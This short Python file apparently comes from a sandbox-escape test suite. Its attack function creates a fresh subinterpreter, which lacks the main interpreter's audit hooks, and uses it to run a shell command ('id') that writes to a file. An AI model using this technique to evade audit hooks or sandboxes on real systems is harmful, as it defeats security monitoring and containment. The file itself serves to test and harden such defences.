"""A second interpreter, which has none of the first one's hooks."""

try:
    import _interpreters as interpreters
except ImportError:
    import _xxsubinterpreters as interpreters


def attack(event):
    interpreter = interpreters.create()
    code = "import os\nos.system('id >%s')\n" % event["out"]
    run = getattr(interpreters, "run_string", None) or interpreters.exec
    run(interpreter, code)
